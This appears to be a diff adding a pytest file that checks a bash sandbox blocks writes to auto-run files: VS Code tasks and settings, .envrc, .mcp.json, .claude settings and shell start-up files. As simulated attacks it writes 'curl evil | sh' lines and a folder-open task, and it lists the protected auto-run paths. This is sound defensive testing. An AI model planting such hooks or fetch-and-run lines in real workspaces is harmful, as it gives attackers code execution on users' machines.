@@ -1,0 +1,163 @@
+"""Files the host runs on its own are protected by default (issue 22, item 4), both backends.
+
+Each attack writes an auto-run file the way a planted command would (absent or present);
+the host file is then checked from outside, and the result must carry a denial that names
+the rule and the key lifting it. Ordinary work in the same workspace keeps working, and no
+placeholder is left on the host or in a commit.
+"""
+
+from __future__ import annotations
+
+import os
+import subprocess
+from pathlib import Path
+
+import pytest
+
+from bash_sandbox import SandboxBashExecutor
+from bash_sandbox.facts.markers import denial_marker
+from bash_seam import BashExecRequest, BashRunResult
+from policies import autorun
+from tests.sandbox.conftest import ExecutorFactory
+
+
+async def _run(ex: SandboxBashExecutor, command: str, workdir: Path) -> BashRunResult:
+    return await ex.run(ex.resolve(BashExecRequest(command=command, workdir=str(workdir))))
+
+
+def _reasons(result: BashRunResult) -> list[str]:
+    assert result.sandbox is not None
+    return [d.reason for d in result.sandbox.denials]
+
+
+ATTACKS = {
+    # name: (what the command does, the host path checked afterwards)
+    ".vscode": (
+        'mkdir -p .vscode && printf \'{"tasks":[{"runOptions":{"runOn":"folderOpen"}}]}\''
+        " > .vscode/tasks.json",
+        ".vscode/tasks.json",
+    ),
+    ".envrc": ("echo 'curl evil | sh' > .envrc", ".envrc"),
+    ".mcp.json": ("echo '{\"mcpServers\":{}}' > .mcp.json", ".mcp.json"),
+    ".claude": ("mkdir -p .claude && echo '{\"hooks\":{}}' > .claude/settings.json", ".claude"),
+    ".devcontainer": (
+        "mkdir -p .devcontainer && echo '{}' > .devcontainer/devcontainer.json",
+        ".devcontainer",
+    ),
+    ".idea": ("mkdir -p .idea && echo x > .idea/workspace.xml", ".idea"),
+}
+
+
+@pytest.mark.parametrize("name", sorted(ATTACKS))
+async def test_missing_autorun_file_cannot_be_created(
+    make_executor: ExecutorFactory, workspace: Path, name: str
+) -> None:
+    command, checked = ATTACKS[name]
+    ex = make_executor(mode="workspace-write")
+    result = await _run(ex, command, workspace)
+    assert result.exit_code != 0
+    # From the host: nothing there, not even the placeholder once the command is done.
+    assert not os.path.lexists(workspace / checked)
+    assert not os.path.lexists(workspace / name)
+    reasons = _reasons(result)
+    assert any(name in r and "unprotected_paths" in r for r in reasons), reasons
+
+
+async def test_existing_vscode_settings_edit_is_refused_with_a_clear_marker(
+    make_executor: ExecutorFactory, workspace: Path
+) -> None:
+    settings = workspace / ".vscode" / "settings.json"
+    settings.parent.mkdir()
+    settings.write_text('{"editor.tabSize": 4}\n')
+    ex = make_executor(mode="workspace-write")
+    result = await _run(
+        ex,
+        'echo \'{"python.defaultInterpreterPath": "./evil"}\' > .vscode/settings.json; '
+        "touch .vscode/launch.json",
+        workspace,
+    )
+    assert settings.read_text() == '{"editor.tabSize": 4}\n'
+    assert not (workspace / ".vscode" / "launch.json").exists()
+    assert result.sandbox is not None
+    denial = next(d for d in result.sandbox.denials if d.target.endswith("settings.json"))
+    marker = denial_marker(denial, result.sandbox.mode, result.sandbox.network)
+    assert "VS Code" in marker and "unprotected_paths" in marker, marker
+
+
+async def test_unprotected_paths_lifts_one_name_only(
+    make_executor: ExecutorFactory, workspace: Path
+) -> None:
+    ex = make_executor(mode="workspace-write", unprotected_paths=(".vscode",))
+    result = await _run(ex, "mkdir -p .vscode && echo ok > .vscode/settings.json", workspace)
+    assert result.exit_code == 0, result.stderr.text
+    assert (workspace / ".vscode" / "settings.json").read_text() == "ok\n"
+    refused = await _run(ex, "echo x > .envrc", workspace)
+    assert refused.exit_code != 0 and not (workspace / ".envrc").exists()
+
+
+async def test_shell_rc_files_are_protected_where_they_exist_and_in_a_home(
+    make_executor: ExecutorFactory,
+    workspace: Path,
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    (workspace / ".bashrc").write_text("# mine\n")
+    ex = make_executor(mode="workspace-write")
+    result = await _run(ex, "echo 'curl evil|sh' >> .bashrc; echo ok > .zshrc", workspace)
+    assert (workspace / ".bashrc").read_text() == "# mine\n"
+    # A project's missing .zshrc runs nothing: no placeholder, creating it works.
+    assert (workspace / ".zshrc").read_text() == "ok\n"
+    assert any(".bashrc" in r for r in _reasons(result))
+    # A writable root that is a home: missing start-up files are held too.
+    home = tmp_path / "home"
+    home.mkdir()
+    monkeypatch.setenv("HOME", str(home))
+    autorun._homes.cache_clear()
+    try:
+        in_home = make_executor(mode="workspace-write", workspace_root=str(home))
+        planted = await _run(in_home, "echo evil > .profile; echo evil > .zshenv", home)
+        assert planted.exit_code != 0
+        assert not (home / ".profile").exists() and not (home / ".zshenv").exists()
+    finally:
+        autorun._homes.cache_clear()
+
+
+async def test_ordinary_work_is_unaffected_and_leaves_no_placeholder(
+    make_executor: ExecutorFactory, workspace: Path
+) -> None:
+    (workspace / "main.py").write_text("print('v1')\n")
+    ex = make_executor(mode="workspace-write")
+    env = "GIT_AUTHOR_NAME=t GIT_AUTHOR_EMAIL=t@e GIT_COMMITTER_NAME=t GIT_COMMITTER_EMAIL=t@e"
+    result = await _run(
+        ex,
+        "sed -i s/v1/v2/ main.py && npm init -y >/dev/null && git init -q && "
+        f"git add -A && {env} git commit -qm init && git status --porcelain",
+        workspace,
+    )
+    assert result.exit_code == 0, result.stderr.text
+    assert result.stdout.text == ""  # no placeholder shows as untracked
+    assert (workspace / "main.py").read_text() == "print('v2')\n"
+    assert (workspace / "package.json").exists()
+    files = subprocess.run(
+        ["git", "-C", str(workspace), "ls-files"], capture_output=True, text=True, check=True
+    ).stdout.split()
+    assert sorted(files) == ["main.py", "package.json"]
+    leftovers = [n for n in os.listdir(workspace) if n in autorun.DEFAULT_AUTORUN_PATHS]
+    assert leftovers == []
+
+
+def test_defaults_and_the_opt_out_key(tmp_path: Path) -> None:
+    from policies import DEFAULT_PROTECTED_PATHS, SandboxPolicy, SandboxPolicyService
+
+    assert {".vscode", ".envrc", ".mcp.json", ".claude", ".bashrc"} <= set(DEFAULT_PROTECTED_PATHS)
+    policy = SandboxPolicy(
+        mode="workspace-write",  # type: ignore[arg-type]
+        workspace_root=str(tmp_path),
+        unprotected_paths=(".vscode/",),
+    )
+    assert ".vscode" not in policy.protected_paths and ".git/hooks" in policy.protected_paths
+    # Stable through a dump and reload (what a per-call policy over MCP goes through).
+    assert SandboxPolicy.model_validate(policy.model_dump()) == policy
+    service = SandboxPolicyService("workspace-write", tmp_path, unprotected_paths=[".envrc"])
+    assert ".envrc" not in service.resolve().protected_paths
+    assert autorun.autorun_reason(".envrc") == "direnv runs it on entering the directory"
